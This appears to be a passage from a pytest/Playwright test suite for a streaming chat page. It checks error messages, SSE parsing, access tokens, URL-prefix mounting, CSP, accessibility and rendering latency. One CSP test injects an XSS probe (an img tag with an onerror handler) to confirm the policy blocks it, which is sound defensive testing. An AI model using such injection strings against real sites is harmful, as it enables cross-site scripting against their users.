    expect(page.get_by_label("Model")).to_be_hidden()
    assert "model" not in json.loads(request.value.post_data)  # the service's default answers


# --- Errors before the stream, as the service (or a proxy in front of it) answers them ----------
#
# page.route answers in place of the server: each status as the page must word it, without
# arranging the server state that produces it.


@pytest.mark.parametrize(
    "status, code, server_says, retry_after, shown",
    [
        (503, "too_many_streams", "x", "3", "too many conversations right now. Please try again in 3 seconds."),
        (429, "rate_limited", "x", "1", "The model is busy right now. Please try again in 1 second."),
        (429, "rate_limited", "x", None, "The model is busy right now. Please try again shortly."),
        (504, "upstream_timeout", "The model stopped answering.", None, "The model stopped answering."),
        (413, "body_too_large", "x", None, "The conversation is too long to send."),
        (400, "upstream_rejected", "Bad parameter.", None, "The request was refused: Bad parameter."),
        (502, None, None, None, "The server answered with an error (HTTP 502)."),  # a proxy's own HTML page
    ],
)
def test_http_errors_are_shown_in_words(chat_page, status, code, server_says, retry_after, shown):
    if code:
        content, content_type = json.dumps({"error": {"message": server_says, "code": code}}), "application/json"
    else:
        content, content_type = "<html><body>Bad Gateway</body></html>", "text/html"
    headers = {"Retry-After": retry_after} if retry_after else {}
    chat_page.route(
        "**/api/chat",
        lambda route: route.fulfill(status=status, headers=headers, body=content, content_type=content_type),
    )
    say(chat_page, "Hi")

    expect(reply_note(chat_page)).to_contain_text(shown)
    assert reply(chat_page).get_attribute("data-state") == "error"


def test_an_event_that_is_not_json_ends_the_reply_without_reconnecting(chat_page):
    """Something between the page and the service sent a stream of its own: said once, with Retry."""
    stream = 'id: s.1\ndata: {"content": "Hel"}\n\nid: s.2\ndata: {not json}\n\n'
    headers = {"X-Stream-Id": "s"}
    chat_page.route(
        "**/api/chat",
        lambda route: route.fulfill(status=200, headers=headers, body=stream, content_type="text/event-stream"),
    )
    say(chat_page, "Hi")

    expect(reply_note(chat_page)).to_have_text("The server sent something this page cannot read.")
    expect(reply_text(chat_page)).to_have_text("Hel")
    expect(chat_page.get_by_role("button", name="Retry")).to_be_focused()


@pytest.fixture
def token_gunicorn(start_gunicorn):
    """gunicorn whose /api/chat wants `Authorization: Bearer s3cret` (CHAT_API_TOKEN)."""
    return start_gunicorn({"CHAT_API_TOKEN": "s3cret"}, name="token")


def test_a_token_is_asked_for_and_kept_when_the_server_wants_one(token_gunicorn, page, upstream):
    upstream.reset(tokens=["Welcome."])
    page.goto(token_gunicorn.url + "/")
    expect(page.get_by_label("Access token")).to_be_hidden()

    say(page, "Hi")
    expect(reply_note(page)).to_have_text("This chat needs an access token. Enter it below and send again.")
    expect(page.get_by_label("Access token")).to_be_focused()
    page.get_by_label("Access token").fill("wrong")
    page.get_by_label("Message").press("Enter")  # the message came back to the box
    expect(reply_note(page)).to_have_text("The access token was not accepted. Check it below and send again.")
    page.get_by_label("Access token").fill("s3cret")
    page.get_by_label("Message").press("Enter")

    expect(reply_text(page)).to_have_text("Welcome.")
    expect(questions(page)).to_have_text(["Hi"])  # the refused tries gave way to the answered one
    assert len(upstream.received) == 1  # the refused tries never reached the model
    page.reload()  # kept for the tab's life
    expect(page.get_by_label("Access token")).to_have_value("s3cret")


# --- The stream parser on its own ---------------------------------------------------------------

PARSER = """async ([text, bytesPerRead]) => {
    const bytes = new TextEncoder().encode(text);
    const body = new ReadableStream({
        start(controller) {
            for (let i = 0; i < bytes.length; i += bytesPerRead) controller.enqueue(bytes.slice(i, i + bytesPerRead));
            controller.close();
        },
    });
    const events = [];
    for await (const { data, id } of readEvents(body)) events.push(id === null ? data : `${id} ${data}`);
    return events;
}"""


@pytest.mark.parametrize("bytes_per_read", [1, 2, 3, 1000], ids=["1-byte", "2-byte", "3-byte", "whole"])
def test_the_parser_reads_every_line_ending_and_any_split_of_the_stream(chat_page, bytes_per_read):
    """\\n, \\r\\n and \\r all end lines (the SSE spec allows each); comments need no blank line;
    an event comes with the last id sent.

    One byte per read splits every line, every \\r\\n pair and every UTF-8 character.
    """
    stream = (
        ": ok\n"  # the service's opening comment, without a blank line of its own
        'data: {"content": "응답"}\r\n\r\n'
        ": ping\r"
        'data: {"content": "cr"}\r\r'
        "data: line one\r\n"  # a \r\n split between two reads is one line end, not two
        "data: line two\r\n\r\n"
        ": ping\r\n"
        'id: s.1\ndata: {"content": "a\\nb"}\n\n'
        ": ping\n"
        "retry: 1000\nid:s.2\ndata:[DONE]\n\n"
        "data: never ended"
    )
    events = chat_page.evaluate(PARSER, [stream, bytes_per_read])
    expected = ['{"content": "응답"}', '{"content": "cr"}', "line one\nline two", 's.1 {"content": "a\\nb"}']
    expected += ["s.2 [DONE]"]
    assert events == expected


# --- Mounted in another app ----------------------------------------------------------------------


@pytest.fixture
def host_app(start_gunicorn):
    """gunicorn serving tests/host_app.py: an existing app with the blueprint under /assistant."""
    return start_gunicorn(name="host", app="tests.host_app:host", ready_path="/assistant/healthz")


def test_the_page_works_under_a_url_prefix(host_app, page, upstream):
    upstream.reset(tokens=["Mounted ", "and ", "streaming."])
    page.goto(host_app.url + "/assistant")  # Flask redirects to /assistant/, so relative URLs resolve

    say(page, "Hi")

    expect(reply_text(page)).to_have_text("Mounted and streaming.")
    assert page.url == host_app.url + "/assistant/"
    assert upstream.received[0].path == "/v1/chat/completions"


def test_a_reload_under_a_url_prefix_resumes_the_reply_and_stop_stops_it(host_app, page, upstream):
    """Resuming, stopping and their cookie (Path=/assistant/api) go through the page's relative URLs too."""
    reload_mid_reply(page, upstream, host_app.url + "/assistant/")
    upstream.reset(tokens=COUNTING, delay=0.05)
    say(page, "Again")
    expect(reply_text(page)).to_contain_text("w02")
    with page.expect_request("**/assistant/api/chat/*/stop"):
        page.get_by_role("button", name="Stop").click()
    expect(reply_note(page)).to_have_text("Stopped.")
    assert upstream.received[0].hung_up.wait(5), "the stop did not reach the mounted blueprint"


# --- Content-Security-Policy ---------------------------------------------------------------------

WATCH_CSP = """
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));
"""


def test_the_page_works_under_a_csp_that_allows_nothing_inline_and_no_other_origin(page, gunicorn, upstream):
    page.add_init_script(WATCH_CSP)
    response = page.goto(gunicorn.url + "/")
    policy = response.headers["content-security-policy"]
    assert policy == PAGE_CSP
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert directives["default-src"] == "'none'"
    for name in ("script-src", "style-src", "connect-src", "img-src"):
        assert directives[name] == "'self'", name  # no 'unsafe-inline', no other origin

    upstream.reset(tokens=MARKDOWN_REPLY)
    say(page, "Hi")
    expect(reply_text(page).locator("pre code")).to_contain_text("def hello")
    assert page.evaluate("window.violations") == []  # the page needs nothing the policy forbids

    # And it forbids what an injection would need: HTML from a string, inline script.
    refused = page.evaluate(
        """() => {
            try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.__xss=1'>"); }
            catch (error) { return error.name; }
        }"""
    )
    assert refused == "TypeError"  # Trusted Types: no HTML from strings at all
    assert "require-trusted-types-for" in page.evaluate("window.violations")
    assert page.evaluate("window.__xss") is None


@pytest.fixture
def page_nginx(start_nginx, gunicorn):
    """The shipped nginx.conf in front of the session's gunicorn: the page from nginx, the API through it."""
    return start_nginx("nginx-page", [gunicorn])


def test_nginx_serves_the_page_with_the_apps_csp_and_it_chats_through_nginx(page_nginx, page, upstream):
    page.add_init_script(WATCH_CSP)
    response = page.goto(page_nginx.url + "/")
    assert response.headers["content-security-policy"] == PAGE_CSP  # nginx.conf says the same
    assert response.headers["cache-control"] == "no-cache"  # served by nginx's location, not the app
    upstream.reset(tokens=MARKDOWN_REPLY)
    say(page, "Hi")
    expect(reply_text(page).locator("td")).to_have_text(["gevent", "10000", "sync", "1"])
    assert page.evaluate("window.violations") == []


def test_a_reload_through_nginx_resumes_the_reply_and_stop_stops_it(page_nginx, page, upstream):
    """The shipped nginx.conf passes the resume (GET api/chat/<id>) and the stop through, unbuffered."""
    reload_mid_reply(page, upstream, page_nginx.url + "/")
    upstream.reset(tokens=COUNTING, delay=0.05)
    say(page, "Again")
    expect(reply_text(page)).to_contain_text("w02")
    page.get_by_role("button", name="Stop").click()
    expect(reply_note(page)).to_have_text("Stopped.")
    assert upstream.received[0].hung_up.wait(5), "the stop did not reach the server through nginx"


# --- Accessibility --------------------------------------------------------------------------------


def accessible_texts(page):
    """Every name and text in Chromium's accessibility tree: what a screen reader can read out."""
    session = page.context.new_cdp_session(page)
    texts = []
    for node in session.send("Accessibility.getFullAXTree")["nodes"]:
        for key in ("name", "value", "description"):
            value = (node.get(key) or {}).get("value")
            if isinstance(value, str) and value:
                texts.append(value)
    session.detach()
    return texts


def test_the_caret_is_shown_but_not_read_out(chat_page, upstream):
    upstream.reset(tokens=[f"word{i} " for i in range(40)], delay=0.1)
    say(chat_page, "Hi")
    expect(reply_text(chat_page)).to_contain_text("word3")

    caret = reply_text(chat_page).evaluate("text => getComputedStyle(text.lastElementChild, '::after').content")
    assert "▍" in caret  # on screen, at the end of the words
    texts = accessible_texts(chat_page)
    assert any("word3" in text for text in texts)  # the tree holds the reply...
    assert not [text for text in texts if "▍" in text]  # ...but not the caret


@pytest.fixture
def axe_page(browser):
    """A page that lets axe-core's script in (it is injected, so the page's CSP would refuse it)."""
    if not AXE.exists():
        message = f"{AXE} is missing (npm ci in tests/)"
        if os.environ.get("CI"):
            pytest.fail(message)  # CI must run the accessibility scan, not skip it
        pytest.skip(message)
    with fresh_page(browser, bypass_csp=True) as page:
        yield page


def run_axe(page):
    """Run axe-core's WCAG 2.x A and AA rules on the page; return its violations, readable."""
    if not page.evaluate("typeof axe !== 'undefined'"):
        page.add_script_tag(path=AXE)
    result = page.evaluate(
        """async () => {
            const tags = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"];
            const result = await axe.run(document, { runOnly: { type: "tag", values: tags } });
            return result.violations.map((v) => ({
                rule: v.id,
                nodes: v.nodes.map((n) => `${n.target.join(" ")}: ${n.failureSummary}`),
            }));
        }"""
    )
    return result


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_and_control_passes_axe_in_both_colour_schemes(axe_page, gunicorn, upstream, scheme):
    """Contrast (WCAG AA), names and roles, on every state a reply can be in; screenshots of each scheme."""
    page = axe_page
    page.emulate_media(color_scheme=scheme)
    page.add_init_script("sessionStorage.setItem('chat-token', 'shown')")  # shows the token row too
    page.goto(gunicorn.url + "/")
    expect(page.get_by_label("Model")).to_be_visible()

    upstream.reset(reasoning=["Considering ", "the options."], tokens=MARKDOWN_REPLY, delay=0.01)
    say(page, "How do I run it?")
    expect(reply_note(page)).to_contain_text("tokens")
    upstream.reset(tokens=["A partial ", "reply ", "that breaks"], cut_after=2)
    say(page, "And then?")
    expect(page.get_by_role("button", name="Retry")).to_be_visible()
    violations = run_axe(page)  # a complete reply, folded thinking, an error with Retry
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=ARTIFACTS / f"chat-{scheme}.png")  # the window, as a person sees it

    upstream.reset(reasoning=[f"thought {i}. " for i in range(30)], tokens=["never"], delay=0.2)
    say(page, "Think hard")
    expect(thinking(page).locator("p")).to_contain_text("thought 1.")
    violations += run_axe(page)  # streaming: Stop, the open thinking, the caret
    page.screenshot(path=ARTIFACTS / f"chat-{scheme}-thinking.png")
    page.keyboard.press("Escape")

    assert violations == []


# --- How it looks, and how fast it shows ----------------------------------------------------------


def test_screenshots_on_a_phone_nothing_scrolls_sideways(chat_page, upstream):
    """Save test-artifacts/chat-phone.png; at phone width the page never scrolls sideways (code and tables do)."""
    upstream.reset(tokens=["Server-Sent Events ", "stream ", "the reply ", "token by token, ", "so it types itself."])
    say(chat_page, "How does this page show the reply?")
    expect(reply_note(chat_page)).to_contain_text("tokens")
    long_code = "```\n" + "x = '" + "y" * 120 + "'\n```\n\n"
    upstream.script.tokens = ["A long word: ", "x" * 120, "\n\n", long_code, *MARKDOWN_REPLY[-4:]]
    say(chat_page, "And a very long word?")
    expect(reply_note(chat_page)).to_contain_text("tokens")

    chat_page.set_viewport_size(PHONE)
    ARTIFACTS.mkdir(exist_ok=True)
    chat_page.screenshot(path=ARTIFACTS / "chat-phone.png", full_page=True)

    assert chat_page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    expect(chat_page.get_by_label("Message")).to_be_in_viewport()
    expect(chat_page.get_by_role("button", name="Send")).to_be_in_viewport()


def long_markdown_reply(count=2000):
    """The tokens of a long markdown reply: headings, paragraphs, lists, code blocks and tables.

    Each token holds one id (k0000, k0001, ...), visible in the page once that token is shown.
    """
    tokens = []

    def add(template):
        tokens.append(template.format(id=f"k{len(tokens):04d}"))

    while len(tokens) < count:
        add("## Part {id}\n\n")
        for _ in range(30):
            add("word {id} ")
        add("**bold {id}** ")
        add("and `code {id}`.\n\n")
        for _ in range(4):
            add("- item {id}\n")
        add("\n```python\ndef f_{id}(x):\n")
        for _ in range(20):
            add("    x = x + '{id}'\n")
        add("    return x\n```\n\n| name | value |\n|---|---:|\n| {id} | 1 |\n")
        for _ in range(4):
            add("| {id} | 2 |\n")
        add("\nThe end of part {id}.\n\n")
    return tokens[:count]


WATCH_TOKENS = """(ids) => {
    // Note when each token's id first shows in the reply, and when the frame that shows it has been
    // rendered: the page renders in requestAnimationFrame, and a task queued from inside a frame
    // runs after that frame's paint. Wall-clock milliseconds, to compare with the test's time.time().
    window.seen = [];
    window.longTasks = [];
    new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) window.longTasks.push(entry.duration);
    }).observe({ type: "longtask" });
    const now = () => performance.timeOrigin + performance.now();
    const channel = new MessageChannel();
    const waiting = [];
    channel.port1.onmessage = () => {
        const painted = now();
        for (const entry of waiting.splice(0)) entry.painted = painted;
    };
    new MutationObserver(() => {
        const text = document.querySelector(".message.assistant:last-child .text")?.textContent ?? "";
        const dom = now();
        const before = window.seen.length;
        while (window.seen.length < ids.length && text.includes(ids[window.seen.length])) {
            const entry = { dom, painted: null };
            window.seen.push(entry);
            waiting.push(entry);
        }
        if (window.seen.length > before) channel.port2.postMessage(null);
    }).observe(document.getElementById("conversation"), { subtree: true, childList: true, characterData: true });
}"""


def test_token_to_screen_of_a_long_markdown_reply(chat_page, upstream):
    """2,000 tokens of markdown with code blocks, 250 a second: upstream write -> shown, median and max.

    The figures go to test-artifacts/token-latency.txt; the assertion is coarse, as the machine is shared.
    """
    tokens = long_markdown_reply()
    ids = [f"k{i:04d}" for i in range(len(tokens))]
    upstream.reset(tokens=tokens, delay=0.004)
    chat_page.evaluate(WATCH_TOKENS, ids)
    # Both sides use the system's wall clock: check they agree within one round trip to the page.
    before = time.time() * 1000
    page_now = chat_page.evaluate("performance.timeOrigin + performance.now()")
    after = time.time() * 1000
    assert before - 2 <= page_now <= after + 2, (before, page_now, after)
    wall_minus_monotonic = time.time() - time.monotonic()
    say(chat_page, "Write a long one")
    # Sleep, not poll, while it streams: the fake upstream notes each send time in a thread of this
    # process, which polling would slow down (the GIL), making the sends look later than they were.
    time.sleep(len(tokens) * 0.004 + 1)
    expect(reply_note(chat_page)).to_contain_text("tokens", timeout=30_000)

    seen = chat_page.evaluate("window.seen")
    long_tasks = chat_page.evaluate("window.longTasks")
    sent = [(t + wall_minus_monotonic) * 1000 for t in upstream.received[0].sent]
    assert len(seen) == len(sent) == len(tokens)
    to_dom = [entry["dom"] - at for entry, at in zip(seen, sent, strict=True)]
    to_screen = [entry["painted"] - at for entry, at in zip(seen, sent, strict=True)]
    size = len("".join(tokens))
    # The page's own work per frame at the end of the reply, where it is largest: lex the whole reply,
    # rebuild what changed. (renderMarkdown and turns are the page script's globals.)
    render = chat_page.evaluate(
        """() => {
            const source = turns.at(-1).answer;
            const view = { text: document.createElement("div"), blocks: [], links: "{}" };
            let started = performance.now();
            renderMarkdown(view, source);
            const whole = performance.now() - started;
            started = performance.now();
            for (let i = 0; i < 50; i++) renderMarkdown(view, source + ` more${i}`);
            return { whole, grown: (performance.now() - started) / 50 };
        }"""
    )
    report = (
        f"Markdown reply of {len(tokens)} tokens ({size:,} characters: headings, lists, code blocks, tables), "
        f"one token every 4 ms, upstream -> gunicorn -> Chromium on 127.0.0.1, rendered once per frame.\n"
        f"token -> DOM:    median {statistics.median(to_dom):.1f} ms, max {max(to_dom):.1f} ms\n"
        f"token -> screen: median {statistics.median(to_screen):.1f} ms, max {max(to_screen):.1f} ms, "
        f"95th percentile {statistics.quantiles(to_screen, n=20)[-1]:.1f} ms "
        f"(until the frame that shows it has painted)\n"
        f"one render at the end: {render['grown']:.2f} ms when a token is added (lex the whole reply, "
        f"rebuild its last block), {render['whole']:.1f} ms from scratch\n"
        f"long tasks (over 50 ms) in the page: {len(long_tasks)}"
        + (f", longest {max(long_tasks):.0f} ms" if long_tasks else "")
    )
    ARTIFACTS.mkdir(exist_ok=True)
    (ARTIFACTS / "token-latency.txt").write_text(report + "\n")
    print(report)
    # Never much below zero: the send time is noted just after the write, so it can trail it, by as
    # much as the fake upstream's thread waits for the GIL (8 ms seen with the two cores loaded).
    assert min(to_dom) > -25
    assert statistics.median(to_screen) < 50  # coarse: a frame or two, not a growing backlog
